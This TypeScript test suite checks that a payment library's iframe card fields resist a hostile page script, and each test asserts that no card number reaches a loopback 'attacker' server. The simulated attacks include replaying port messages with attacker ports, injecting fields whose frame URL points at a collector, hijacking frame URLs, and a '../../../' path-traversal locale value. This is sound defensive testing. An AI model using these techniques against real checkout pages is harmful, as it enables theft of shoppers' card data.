// The secure fields attacked the way a hostile script on the storefront page would: it wraps the page's message
// channels before the library creates any, walks every object it can reach from the library, calls every function
// with its own URLs, replays every message the page sent over every port (with its own URLs and ports), injects
// elements and clones the frames. Each test ends with no card data at the attacker's server, and none in anything the
// page received. The attacker's server is a second origin on loopback that records every request
// (test/attacker-server.mjs).
import { expect, fixture, html, waitUntil } from '@open-wc/testing';
import { DigitalRiver } from '../../src/core/digital-river.js';
// Drop-in's bundle adds createDropin and retrieveAvailablePaymentMethods: reachable functions too.
import '../../src/dropin/install.js';
import type { DigitalRiverElement } from '../../src/core/element.js';
import type { DrCardFieldElement } from '../../src/elements/card-field/card-field.component.js';
import type { RemoteSandbox } from '../../src/sandbox/remote.js';
import { cardDataIn as cardDataOf, settled, walkAndCall, watchPageChannels } from './page-attacker.fixtures.js';
import { frameUrl as sharedFrameUrl, sandboxForTests, typeInto } from './secure-fields.fixtures.js';

// ---- what a script loaded before the library can do: keep the page's end of every channel ----
const { pagePorts, sentOnPorts, received, OriginalChannel } = watchPageChannels();

const PAN = '4444222233331111';
let sandbox: RemoteSandbox;
let attacker: string;
let run = 0;

before(async () => {
  sandbox = await sandboxForTests();
  attacker = ((await (await fetch('/__attacker')).json()) as { origin: string }).origin;
});

/** Frames of a deployment of their own per test: an attack that breaks one test's fields leaves the next alone. */
const frameUrl = () => `${sharedFrameUrl()}?run=${run}`;

/** A collector address of the attacker's, one per test. */
const collector = () => `${attacker}/run${run}`;
beforeEach(() => {
  run++;
  received.length = 0;
});

async function attackerLog(): Promise<{ method: string; path: string; body: string }[]> {
  return (await fetch(`${attacker}/__log?run=run${run}`)).json();
}

/** A port of the attacker's own: whatever arrives on it is recorded. */
function attackerPort(): MessagePort {
  const channel = new OriginalChannel();
  channel.port1.onmessage = (event) => received.push(event.data);
  return channel.port2;
}

const cardDataIn = (values: unknown[]) => cardDataOf(values, PAN);

async function filledCard(options: { apiBaseUrl?: string; publicKey?: string } = {}) {
  await fixture(html`<div><div id="pan"></div><div id="exp"></div><div id="cvc"></div></div>`);
  const dr = new DigitalRiver(options.publicKey ?? 'pk_test_attack', { apiBaseUrl: options.apiBaseUrl ?? sandbox.url, frameUrl: frameUrl() });
  const fields = (['cardnumber', 'cardexpiration', 'cardcvv'] as const).map((type) => dr.createElement(type)!);
  const readies = fields.map((field) => new Promise((resolve) => field.on('ready', resolve)));
  fields.forEach((field, i) => field.mount(['pan', 'exp', 'cvc'][i]!));
  await Promise.all(readies);
  const [number, expiry, cvv] = fields as [DigitalRiverElement, DigitalRiverElement, DigitalRiverElement];
  for (const [field, text] of [
    [number, PAN],
    [expiry, '1234'],
    [cvv, '123'],
  ] as const) {
    await typeInto(field, text);
    await waitUntil(() => field.fieldElement.state.complete, `${field.elementType} is complete`);
  }
  // The controller frame starts once the fields are ready; a test types quicker than it loads.
  const group = number.fieldElement.fieldGroup!;
  await waitUntil(async () => !(await group.version()).includes('-'), 'the controller holds the card');
  return { dr, number, expiry, cvv };
}

describe('attack: a hostile script on the page', function () {
  // Typing a card and waiting out requests the frames ignore take longer than a plain test.
  this.timeout(40_000);

  it('calls every function it can reach from the library with its own URLs and ports: nothing reaches it', async () => {
    const { dr, number } = await filledCard();
    const api = { baseUrl: collector(), publicKey: 'pk_test_attack' };
    const argumentSets: unknown[][] = [
      [api, { type: 'creditCard' }],
      [api, 'src_x', 'secret', {}],
      [{ call: 'tokenize', api, fields: {}, data: {} }],
      // The controller's calls with the page's own data (createSource without an element, retrieve, authenticate, update).
      [{ call: 'createSource', api, data: { type: 'creditCard' } }],
      [{ call: 'retrieveSource', api, sourceId: 'src_x', clientSecret: 'secret' }],
      [{ call: 'authenticateSource', api, sourceId: 'src_x', clientSecret: 'secret', body: {} }],
      [{ call: 'updateSource', api, sourceId: 'src_x', clientSecret: 'secret', body: {} }],
      [{ call: 'retrieveAvailablePaymentMethods', api, filters: { currency: 'USD' } }],
      [collector()],
      [`${collector()}/frame.html`],
    ];
    // Everything reachable from the DigitalRiver object and the element, as a page script can walk it.
    const { seen, calls } = walkAndCall([[dr, 0], [number, 0], [number.fieldElement, 0]], argumentSets, ['constructor', 'remove', 'destroy', 'unmount', 'disconnectedCallback', 'close']);
    expect(seen.size, 'objects reached').to.be.greaterThan(10);
    expect(calls.length, 'functions called').to.be.greaterThan(50);
    const results = await settled(calls);

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...received, ...results.map((r) => (r.status === 'fulfilled' ? r.value : String(r.reason)))])).to.deep.equal([]);
  });

  it('replays every message the page sent, over every port, with its own URLs and ports: nothing reaches it', async () => {
    const { dr, number } = await filledCard();
    // A legitimate source first, so every kind of request has been sent once.
    const legit = await dr.createSource(number, { type: 'creditCard' });
    if (!('source' in legit)) throw new Error(JSON.stringify(legit));
    // And the page's own API calls, which go through the controller too.
    expect('source' in (await dr.retrieveSource(legit.source.id, legit.source.clientSecret))).to.equal(true);
    expect(await dr.authenticateSource({ sourceId: legit.source.id, sourceClientSecret: legit.source.clientSecret })).to.deep.equal({ status: 'authentication_not_required' });
    const sourcesBefore = (await sandbox.sources()).length;
    const replays: Promise<unknown>[] = [];
    let id = 10_000;
    const answered = (port: MessagePort, message: Record<string, unknown>) =>
      new Promise((resolve) => {
        const mine = ++id;
        const listen = (event: MessageEvent) => (event.data as { id?: number })?.id === mine && resolve(event.data);
        port.addEventListener('message', listen);
        port.postMessage({ ...message, id: mine }, [attackerPort()]);
        // A request the frame ignores gets no answer: give up after the library's own frame timeout.
        setTimeout(() => resolve('no answer'), 3000);
      });
    for (const { port, data } of [...sentOnPorts]) {
      const message = data as Record<string, unknown>;
      replays.push(answered(port, message));
      if (message.api) replays.push(answered(port, { ...message, api: { ...(message.api as object), baseUrl: collector() } }));
    }
    // And requests the old protocol knew, on every port: hand a port to a "sibling", read from it.
    for (const port of pagePorts) {
      replays.push(answered(port, { call: 'sibling', kind: 'cardcvv' }));
      replays.push(answered(port, { call: 'read' }));
      replays.push(answered(port, { call: 'tokenize', api: { baseUrl: collector(), publicKey: 'pk_test_attack' }, data: {} }));
    }
    // Second handshakes, with the attacker's ports, to every frame.
    for (const frame of document.querySelectorAll('iframe')) {
      for (const type of ['dr-field-connect', 'dr-controller-connect']) {
        for (const kind of ['cardnumber', 'cardexpiration', 'cardcvv']) frame.contentWindow?.postMessage({ type, kind }, '*', [attackerPort()]);
      }
    }
    for (const field of document.querySelectorAll<DrCardFieldElement>('dr-card-number, dr-card-expiration, dr-card-cvv')) {
      for (const kind of ['cardnumber', 'cardexpiration', 'cardcvv']) {
        field.shadowRoot!.querySelector('iframe')!.contentWindow!.postMessage({ type: 'dr-field-connect', kind }, '*', [attackerPort()]);
      }
    }
    expect(sentOnPorts.length, 'messages replayed').to.be.greaterThan(5);
    const answers = await Promise.all(replays);

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...received, ...answers])).to.deep.equal([]);
    // Replayed tokenize requests may create sources, but only at the sandbox the frames trust.
    expect((await sandbox.sources()).length).to.be.at.least(sourcesBefore);
  });

  it('passes its own apiBaseUrl, or a live key, to a DigitalRiver instance: the frames refuse and send nothing', async () => {
    const { dr, number } = await filledCard({ apiBaseUrl: collector() });
    const result = await dr.createSource(number, { type: 'creditCard' });
    expect('error' in result && result.error.type).to.equal('integration_error');
    expect('error' in result && result.error.errors[0]!.code).to.equal('api_origin_not_allowed');

    // The page's own API calls go through the controller frame, which refuses them the same way.
    const owner = { firstName: 'Eve', lastName: 'Attacker', email: 'eve@example.test' };
    const ownCalls = await Promise.all([
      dr.createSource({ type: 'creditCard', creditCard: { number: PAN, expirationMonth: 12, expirationYear: 2034, cvv: '123' } }),
      dr.createSource({ type: 'payPal', payPal: { returnUrl: 'https://shop.example.test/ok', cancelUrl: 'https://shop.example.test/no' } }),
      dr.retrieveSource('src_x', 'secret'),
      dr.authenticateSource({ sourceId: 'src_x', sourceClientSecret: 'secret' }),
      dr.updateSource({ id: 'src_x', clientSecret: 'secret', owner }),
      dr.retrieveAvailablePaymentMethods({ currency: 'USD', country: 'US' }),
    ]);
    expect(ownCalls.map((r) => 'error' in r && r.error.errors[0]!.code)).to.deep.equal(Array(6).fill('api_origin_not_allowed'));
    expect(cardDataIn(ownCalls)).to.deep.equal([]);

    const live = await filledCard({ publicKey: 'pk_live_attack' });
    const liveResult = await live.dr.createSource(live.number, { type: 'creditCard' });
    expect('error' in liveResult && liveResult.error.errors[0]!.code).to.equal('live_key_not_allowed');
    const liveRetrieve = await live.dr.retrieveSource('src_x', 'secret');
    expect('error' in liveRetrieve && liveRetrieve.error.errors[0]!.code).to.equal('live_key_not_allowed');
    const liveMethods = await live.dr.retrieveAvailablePaymentMethods();
    expect('error' in liveMethods && liveMethods.error.errors[0]!.code).to.equal('live_key_not_allowed');

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn(received)).to.deep.equal([]);
  });

  it('names the filled fields in the controller\'s calls for the page\'s own data: no field value goes into them', async () => {
    const { dr, number, expiry, cvv } = await filledCard();
    const controller = (dr as unknown as { controller: { call(request: object): Promise<unknown> } }).controller;
    // A field's id is in its frame's URL, where a page script reads it.
    const idOf = (field: DigitalRiverElement) => new URLSearchParams(new URL(field.fieldElement.shadowRoot!.querySelector('iframe')!.src).hash.slice(1)).get('field')!;
    const fields = { cardnumber: idOf(number), cardexpiration: idOf(expiry), cardcvv: idOf(cvv) };
    const api = { baseUrl: sandbox.url, publicKey: 'pk_test_attack' };
    const sourcesBefore = (await sandbox.sources()).length;
    // A card source from the fields would need their values: without them the API refuses a card with no number.
    const created = (await controller.call({ call: 'createSource', fields, api, data: { type: 'creditCard' } })) as { error?: { type: string } };
    expect(created.error?.type, JSON.stringify(created)).to.equal('bad_request');
    expect((await sandbox.sources()).length).to.equal(sourcesBefore);
    // An update naming the typed expiry (12/34) keeps the source's own (01/31): only updateExpiration reads the field.
    const saved = await dr.createSource({ type: 'creditCard', creditCard: { number: '5466160000000008', expirationMonth: 1, expirationYear: 2031, cvv: '123' } });
    if (!('source' in saved)) throw new Error(JSON.stringify(saved));
    const owner = { firstName: 'Ada', lastName: 'Lovelace', email: 'ada@example.test' };
    const { id, clientSecret } = saved.source;
    const updated = (await controller.call({ call: 'updateSource', fields, api, sourceId: id, clientSecret, body: { owner } })) as { data?: { creditCard?: object } };
    expect(updated.data?.creditCard, JSON.stringify(updated)).to.deep.include({ expirationMonth: 1, expirationYear: 2031 });

    expect(cardDataIn([created, updated, ...received])).to.deep.equal([]);
  });

  it('injects card elements into the filled group, one from its own origin: none of them gets card data', async () => {
    const group = `attack-${run}`;
    const form = await fixture<HTMLElement>(html`<form>
      <dr-card-number group=${group} frame-url=${frameUrl()}></dr-card-number>
      <dr-card-expiration group=${group} frame-url=${frameUrl()}></dr-card-expiration>
      <dr-card-cvv group=${group} frame-url=${frameUrl()}></dr-card-cvv>
    </form>`);
    const fields = [...form.querySelectorAll<DrCardFieldElement>('dr-card-number, dr-card-expiration, dr-card-cvv')];
    await waitUntil(() => fields.every((field) => field.shadowRoot?.querySelector('iframe')), 'frames rendered');
    const dr = new DigitalRiver('pk_test_attack', { apiBaseUrl: sandbox.url, frameUrl: frameUrl() });
    for (const [field, text] of [
      [fields[0]!, PAN],
      [fields[1]!, '1234'],
      [fields[2]!, '123'],
    ] as const) {
      await waitUntil(() => field.shadowRoot!.querySelector('iframe') && typeInto(field, text).then(() => true), 'typed');
      await waitUntil(() => field.state.complete, `${field.localName} complete`);
    }
    const sourcesBefore = (await sandbox.sources()).length;
    // Injected HTML: a security-code field of the same group whose frame is the attacker's page.
    const injected = document.createElement('div');
    injected.innerHTML = `<dr-card-cvv group="${group}" frame-url="${collector()}/frame.html"></dr-card-cvv>`;
    document.body.append(injected);
    const joined = new Promise((resolve) => injected.firstElementChild!.addEventListener('dr-ready', resolve));
    await waitUntil(async () => (await attackerLog()).some((record) => record.path.endsWith('/message')), 'the attacker frame got the handshake');
    await joined;
    const withForeignFrame = await dr.createSource(fields[0]!, { type: 'creditCard' });
    expect('error' in withForeignFrame, 'no source with a field the frames cannot reach').to.equal(true);
    // And a genuine number field injected into the same group: it is empty, so nothing is tokenized.
    const injectedNumber = document.createElement('div');
    injectedNumber.innerHTML = `<dr-card-number group="${group}" frame-url="${frameUrl()}"></dr-card-number>`;
    document.body.append(injectedNumber);
    await new Promise((resolve) => injectedNumber.firstElementChild!.addEventListener('dr-ready', resolve));
    const withInjectedNumber = await dr.createSource(fields[0]!, { type: 'creditCard' });
    expect('error' in withInjectedNumber, JSON.stringify(withInjectedNumber)).to.equal(true);
    injected.remove();
    injectedNumber.remove();

    const log = await attackerLog();
    expect(cardDataIn(log.map((record) => record.body))).to.deep.equal([]);
    expect(cardDataIn(received)).to.deep.equal([]);
    expect((await sandbox.sources()).length).to.equal(sourcesBefore);
  });

  it('points filled fields at its own frame after they rendered (frameUrl, frame-url, a hostile locale): nothing reaches it', async () => {
    const { dr, number, expiry, cvv } = await filledCard();
    const sourcesBefore = (await sandbox.sources()).length;
    // A frame URL set after render takes effect, so the hijacked field loads the attacker's page in its place.
    number.fieldElement.frameUrl = `${collector()}/frame.html`;
    expiry.fieldElement.setAttribute('frame-url', `${collector()}/frame.html`);
    // A locale names the language script the frame loads: it can only pick one of the frame origin's own.
    cvv.fieldElement.locale = `../../../${collector()}/x`;
    await waitUntil(async () => (await attackerLog()).filter((record) => record.path.endsWith('/message')).length >= 2, 'both hijacked fields loaded the attacker page');
    const result = await dr.createSource(number, { type: 'creditCard' });
    expect('error' in result, JSON.stringify(result)).to.equal(true);
    // The value stayed on the frame origin: pointed back at the genuine frames, the field gets it back.
    number.fieldElement.frameUrl = frameUrl();
    await waitUntil(() => number.fieldElement.state.complete, 'the genuine frame has the number back');

    const log = await attackerLog();
    expect(cardDataIn(log.map((record) => record.body))).to.deep.equal([]);
    // What it got besides loads of its own pages (a frame, and a controller for its "deployment"): the messages its
    // frames were sent, settings and commands, no card data (checked above).
    const sent = log.filter((record) => record.method !== 'GET');
    expect(sent.every((record) => record.path.endsWith('/message')), JSON.stringify(sent.map((record) => record.path))).to.equal(true);
    expect(cardDataIn(received)).to.deep.equal([]);
    expect((await sandbox.sources()).length).to.equal(sourcesBefore);
  });

  it('clones the frames (same URLs, its own handshake): a clone shows the value back, and gives the attacker nothing', async () => {
    const { number } = await filledCard();
    const original = number.fieldElement.shadowRoot!.querySelector('iframe')!;
    const controller = [...document.querySelectorAll('iframe')].find((frame) => frame.src.includes('controller.html'))!;
    const states: unknown[] = [];
    const clone = async (src: string, handshake: Record<string, unknown>) => {
      const frame = document.createElement('iframe');
      frame.src = src;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      const channel = new OriginalChannel();
      channel.port1.onmessage = (event) => states.push(event.data);
      frame.contentWindow!.postMessage(handshake, new URL(src).origin, [channel.port2]);
      return { frame, port: channel.port1 };
    };
    const field = await clone(original.src, { type: 'dr-field-connect', kind: 'cardnumber' });
    await waitUntil(() => states.some((s) => (s as { state?: { complete?: boolean } }).state?.complete), 'the clone got the value back');
    expect(field.frame.contentDocument).to.equal(null);
    const ctl = await clone(controller.src.replace(/#.*/, '') + new URL(controller.src).hash, { type: 'dr-controller-connect' });
    await waitUntil(() => states.some((s) => (s as { event?: string }).event === 'ready' && 'defaultApiBaseUrl' in (s as object)), 'controller clone ready');
    const fieldId = new URLSearchParams(new URL(original.src).hash.slice(1)).get('field')!;
    ctl.port.postMessage({ id: 1, call: 'tokenize', fields: { cardnumber: fieldId }, api: { baseUrl: collector(), publicKey: 'pk_test_attack' }, data: {} });
    ctl.port.postMessage({ id: 2, call: 'version', fields: { cardnumber: fieldId } });
    await waitUntil(() => states.some((s) => (s as { id?: number }).id === 1) && states.some((s) => (s as { id?: number }).id === 2), 'both answered');
    expect((states.find((s) => (s as { id?: number }).id === 1) as { result: { error: { code?: string; errors: { code: string }[] } } }).result.error.errors[0]!.code).to.equal(
      'api_origin_not_allowed',
    );
    field.frame.remove();
    ctl.frame.remove();

    expect(await attackerLog()).to.deep.equal([]);
    expect(cardDataIn([...states, ...received])).to.deep.equal([]);
  });
});
